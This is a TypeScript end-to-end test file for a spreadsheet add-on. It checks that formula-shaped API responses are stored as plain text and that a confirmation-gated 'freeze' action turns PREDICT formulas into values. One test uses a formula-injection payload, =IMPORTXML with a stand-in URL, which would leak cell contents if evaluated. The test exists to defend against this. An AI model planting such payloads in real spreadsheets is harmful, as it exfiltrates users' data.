// Answers that look like formulas land as text; Freeze turns PREDICT formulas into values.
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import type { StartJobResult } from '../../src/features/sidebar/rpc-types';
import { createSandbox } from '../gas-sandbox/sandbox';
import { KEYS, sampleSheet, validRows } from './support/e2e';
import { runToEnd, select, sheetSandbox, started } from './support/jobs';

const HEADER = sampleSheet()[0] as string[];

describe('formula injection and freezing', () => {
  it('an API answer =IMPORTXML("http://x/?"&A1,"//a") lands as text, not as a formula', async () => {
    const secret = KEYS['key-2026a'];
    const payload = '=IMPORTXML("http://x/?"&A1,"//a")';
    const worker = new Worker(join(__dirname, 'support/hostile-api-worker.mjs'), {
      workerData: { secret, value: payload },
    });
    const { port } = await new Promise<{ port: number }>((resolve) => worker.once('message', resolve));
    const sandbox = sheetSandbox(`http://127.0.0.1:${port}`, validRows(3, 506));
    try {
      const job = started(sandbox.call<StartJobResult>('sidebarStartJob', { hasHeader: false }));
      expect(runToEnd(sandbox, job).final.state).toBe('done');
      const dump = sandbox.spreadsheet.getSheetByName('Customers')?.dump();
      expect(dump?.formulas.map((r) => r[8])).toEqual(['', '', '']);
      expect(dump?.values.map((r) => r[8])).toEqual([payload, payload, payload]);
    } finally {
      await sandbox.close();
      await worker.terminate();
    }
  });

  it('freeze replaces a PREDICT formula and its spilled results by their values, after confirming', async () => {
    const sandbox = createSandbox({
      spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER, ...validRows(3, 507)] }] },
    });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.25, formula: '=PREDICT(A2:H4)' });
    sheet?.setCell(3, 9, { value: 0.5, formula: '' });
    sheet?.setCell(4, 9, { value: '#ERROR INVALID_ROW: age must be a number', formula: '' });
    sheet?.setCell(3, 10, { value: '00123', formula: '' });
    sheet?.setCell(2, 11, { value: 7, formula: '=SUM(A2:B2)' });
    select(sandbox, 'I2:K2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    const dump = sheet?.dump();
    expect(dump?.formulas[1]?.[8]).toBe('');
    expect(dump?.values.slice(1, 4).map((r) => r[8])).toEqual([
      0.25,
      0.5,
      '#ERROR INVALID_ROW: age must be a number',
    ]);
    expect(dump?.formulas[1]?.[10]).toBe('=SUM(A2:B2)');
    expect(sandbox.ui.alerts[0]?.prompt).toMatch(/Replace 1 PREDICT formulas in I2:K4/);
    await sandbox.close();
  });

  it('freeze covers an open-ended range to the last row, and leaves a formula showing an error value alone', async () => {
    const sandbox = createSandbox({
      spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER, ...validRows(3, 509)] }] },
    });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.1, formula: '=PREDICT(A2:H)' });
    sheet?.setCell(3, 9, { value: 0.2, formula: '' });
    sheet?.setCell(4, 9, { value: 0.3, formula: '' });
    select(sandbox, 'I2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    expect(sandbox.ui.alerts[0]?.prompt).toMatch(/I2:I4/);
    expect(
      sheet
        ?.dump()
        .values.slice(1, 4)
        .map((r) => r[8]),
    ).toEqual([0.1, 0.2, 0.3]);
    sheet?.setCell(2, 10, { value: '#REF!', formula: '=PREDICT(A2:H2)' });
    select(sandbox, 'J2');
    sandbox.ui.nextAlertResponses.push('YES', 'OK');
    sandbox.call('menuFreezeFormulas');
    expect(sheet?.dump().formulas[1]?.[9]).toBe('=PREDICT(A2:H2)');
    expect(sandbox.ui.alerts.at(-1)?.prompt).toMatch(/still loading or show/);
    await sandbox.close();
  });

  it('freeze does nothing when the user says no', async () => {
    const sandbox = createSandbox({ spreadsheet: { sheets: [{ name: 'Customers', values: [HEADER] }] } });
    const sheet = sandbox.spreadsheet.getSheetByName('Customers');
    sheet?.setCell(2, 9, { value: 0.25, formula: '=PREDICT(A2:H2)' });
    select(sandbox, 'I2');
    sandbox.ui.nextAlertResponses.push('NO');
    sandbox.call('menuFreezeFormulas');
    expect(sheet?.dump().formulas[1]?.[8]).toBe('=PREDICT(A2:H2)');
    await sandbox.close();
  });
});
